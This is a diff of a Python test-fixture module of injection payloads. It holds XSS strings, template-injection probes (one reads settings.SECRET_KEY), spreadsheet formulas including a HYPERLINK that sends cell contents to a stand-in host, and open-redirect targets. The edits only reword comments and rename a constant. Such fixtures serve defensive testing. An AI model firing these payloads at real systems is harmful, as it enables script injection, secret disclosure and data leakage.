@@ -1,4 +1,4 @@
-"""Texts that become something else where somebody forgets that they are text."""
+"""Payloads of attacks: scripts, template code, spreadsheet formulas and redirect targets."""
 
 from __future__ import annotations
 
@@ -50,7 +50,7 @@ SCRIPTS: Final = (
     "<!--><script>alert(1)</script>-->",
     "&lt;script&gt;alert(1)&lt;/script&gt; \uff1cscript\uff1e",
 )
-#: What a template language, or a careless ``%`` or ``format``, would work out.
+#: What a template language, or a careless ``%`` or ``format``, would evaluate.
 TEMPLATES: Final = (
     "{{7*7}}{% load x %}{x.__class__}",
     "{% include 'admin/base.html' %} Ana",
@@ -59,7 +59,7 @@ TEMPLATES: Final = (
     "{0.__class__} {settings.SECRET_KEY} {",
     "${x.__class__} #{7*7} <%= 7*7 %>",
 )
-#: What a spreadsheet works out, as it was typed and as it is kept: spaces at the ends are not part of a name.
+#: Spreadsheet formulas: requirement, as typed, and as stored (without leading and trailing spaces).
 FORMULAS: Final = (
     ("I01", '=HYPERLINK("http://x/?"&A1,"y")', '=HYPERLINK("http://x/?"&A1,"y")'),
     ("I02", "+1+1", "+1+1"),
@@ -68,8 +68,8 @@ FORMULAS: Final = (
     ("I03", "\t=1", "=1"),
     ("I03", "\r=1", "=1"),
 )
-#: Places where an attacker would like to have somebody sent to.
-ELSEWHERE: Final = (
+#: Targets of an open redirect.
+REDIRECT_TARGETS: Final = (
     "//e.example",
     "///e.example",
     "////e.example",
@@ -99,7 +99,7 @@ ELSEWHERE: Final = (
 
 
 def names(texts: Iterable[str]) -> Iterator[str]:
-    """Yield ``texts``, as many in one name as it may hold: whole journeys are slow."""
+    """Yield ``texts`` joined into as few names as possible: each name is tested by a slow journey."""
     name = ""
     for text in texts:
         if name and len(name) + 1 + len(text) > MAX_NAME:
